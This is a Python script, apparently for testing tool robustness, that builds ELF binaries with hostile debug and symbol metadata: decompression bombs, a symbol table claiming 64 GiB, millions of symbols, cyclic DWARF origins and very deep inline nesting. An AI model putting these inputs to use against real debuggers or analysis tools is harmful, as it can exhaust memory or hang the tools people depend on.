#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""hostile-elf.py KIND PROGRAM OUT: a copy of an ELF program without debug information that runs
as before, while what tools read of it is meant to hurt them (64-bit, little-endian).

bomb      three debug sections of 2 GiB each, compressed into 2 MB
size      a symbol table that says it has 64 GiB
holes     the same, and the file is that large, of holes
symbols   a symbol table of four million entries
origins   functions whose abstract origins go round in circles, and through 100,000 others
nested    inlined functions in one another, 200,000 deep
"""
import os
import shutil
import struct
import subprocess
import sys
import zlib

GIB = 1 << 30
SHT_PROGBITS, SHT_SYMTAB = 1, 2
SHF_COMPRESSED = 0x800
SECTION = struct.Struct('<IIQQQQIIQQ')  # Elf64_Shdr
NAME, TYPE, FLAGS, ADDR, OFFSET, SIZE, LINK, INFO, ALIGN, ENTSIZE = range(10)


class Elf:
    """Sections to be changed; what the program header tells stays."""

    def __init__(self, path):
        self.data = bytearray(open(path, 'rb').read())
        (offset,) = struct.unpack_from('<Q', self.data, 0x28)
        _, count, names = struct.unpack_from('<HHH', self.data, 0x3A)
        self.sections = [list(SECTION.unpack_from(self.data, offset + i * SECTION.size))
                         for i in range(count)]
        self.names_index = names
        table = self.sections[names]
        self.names = bytearray(self.data[table[OFFSET]:table[OFFSET] + table[SIZE]])

    def find(self, name):
        for section in self.sections:
            at = section[NAME]
            if self.names[at:self.names.index(0, at)] == name:
                return section
        raise KeyError(name)

    def append(self, data):
        self.data += bytes(-len(self.data) % 16)
        at = len(self.data)
        self.data += data
        return at

    def add(self, name, data, flags=0):
        section = [0] * 10
        section[NAME], section[TYPE], section[FLAGS] = len(self.names), SHT_PROGBITS, flags
        section[OFFSET], section[SIZE], section[ALIGN] = self.append(data), len(data), 1
        self.names += name + b'\0'
        self.sections.append(section)

    def write(self, path):
        table = self.sections[self.names_index]
        table[OFFSET], table[SIZE] = self.append(self.names), len(self.names)
        offset = self.append(b''.join(SECTION.pack(*section) for section in self.sections))
        struct.pack_into('<Q', self.data, 0x28, offset)
        struct.pack_into('<H', self.data, 0x3C, len(self.sections))
        with open(path, 'wb') as out:
            out.write(self.data)


def bomb(elf):
    piece = 1 << 20
    head = zlib.compressobj(9)
    first = head.compress(bytes(piece)) + head.flush(zlib.Z_FULL_FLUSH)
    again = head.compress(bytes(piece)) + head.flush(zlib.Z_FULL_FLUSH)
    pieces = 2 * GIB // piece
    # An empty last block, and Adler-32 of nothing but zeros (RFC 1950).
    tail = b'\x03\x00' + struct.pack('>I', (2 * GIB % 65521) << 16 | 1)
    section = struct.pack('<IIQQ', 1, 0, 2 * GIB, 1) + first + again * (pieces - 1) + tail
    for name in (b'.debug_info', b'.debug_abbrev', b'.debug_line'):
        elf.add(name, section, SHF_COMPRESSED)


def size(elf):
    elf.find(b'.symtab')[SIZE] = 64 * GIB


def symbols(elf):
    table = elf.find(b'.symtab')
    text = elf.find(b'.text')
    entries = bytearray(elf.data[table[OFFSET]:table[OFFSET] + table[SIZE]])
    # Each starts in the program's code and has its size.
    more = struct.pack('<IBBHQQ', 1, 2, 0, 1, text[ADDR], text[SIZE])
    table[OFFSET] = elf.append(entries + more * 4_000_000)
    table[SIZE] = len(entries) + len(more) * 4_000_000


def uleb(value):
    out = b''
    while True:
        out += bytes([value & 0x7F | (0x80 if value > 0x7F else 0)])
        value >>= 7
        if value == 0:
            return out


def abbreviation(code, tag, children, *attributes):
    pairs = b''.join(uleb(name) + uleb(form) for name, form in attributes)
    return uleb(code) + uleb(tag) + bytes([children]) + pairs + b'\0\0'


# DWARF 4: DW_TAG_*, DW_AT_*, DW_FORM_*.
COMPILE_UNIT, SUBPROGRAM, INLINED = 0x11, 0x2E, 0x1D
LOW_PC, HIGH_PC, ORIGIN = 0x11, 0x12, 0x31
ADDRESS, DATA8, REF4 = 0x01, 0x07, 0x13
RANGE = ((LOW_PC, ADDRESS), (HIGH_PC, DATA8))
ABBREVIATIONS = (abbreviation(1, COMPILE_UNIT, 1, *RANGE)
                 + abbreviation(2, SUBPROGRAM, 0, *RANGE, (ORIGIN, REF4))
                 + abbreviation(3, SUBPROGRAM, 0, (ORIGIN, REF4))
                 + abbreviation(4, INLINED, 1, *RANGE, (ORIGIN, REF4))
                 + abbreviation(5, SUBPROGRAM, 1, *RANGE)
                 + b'\0')
HEAD = 11  # bytes of a unit before its first entry


def add_unit(elf, entries):
    text = elf.find(b'.text')
    body = (struct.pack('<HIB', 4, 0, 8)
            + uleb(1) + struct.pack('<QQ', text[ADDR], text[SIZE]) + entries + b'\0')
    elf.add(b'.debug_info', struct.pack('<I', len(body)) + body)
    elf.add(b'.debug_abbrev', ABBREVIATIONS)


def origins(elf):
    text = elf.find(b'.text')
    at = HEAD + 17
    half = text[SIZE] // 2
    first = at + 2 * 21  # behind the two functions with code
    out = b''
    # One leads into a circle of two, the other through a chain into the circle.
    chain = 100_000
    for start, length, to in ((text[ADDR], half, first),
                              (text[ADDR] + half, text[SIZE] - half, first + 10)):
        out += uleb(2) + struct.pack('<QQI', start, length, to)
    out += uleb(3) + struct.pack('<I', first + 5) + uleb(3) + struct.pack('<I', first)
    for i in range(chain):
        target = first + 10 + 5 * (i + 1) if i + 1 < chain else first
        out += uleb(3) + struct.pack('<I', target)
    add_unit(elf, out)


def nested(elf):
    text = elf.find(b'.text')
    at = HEAD + 17
    deep = 200_000
    span = struct.pack('<QQ', text[ADDR], text[SIZE])
    add_unit(elf, uleb(5) + span + (uleb(4) + span + struct.pack('<I', at)) * deep
             + b'\0' * (deep + 1))


def main():
    kind, program, path = sys.argv[1:]
    subprocess.run(['objcopy', '--strip-debug', program, path + '.plain'], check=True)
    elf = Elf(path + '.plain')
    os.unlink(path + '.plain')
    if kind == 'holes':
        table = elf.find(b'.symtab')
        table[OFFSET], table[SIZE] = 1 << 20, 64 * GIB
    else:
        {'bomb': bomb, 'size': size, 'symbols': symbols, 'origins': origins,
         'nested': nested}[kind](elf)
    elf.write(path)
    if kind == 'holes':
        os.truncate(path, 65 * GIB)
    shutil.copymode(program, path)


main()
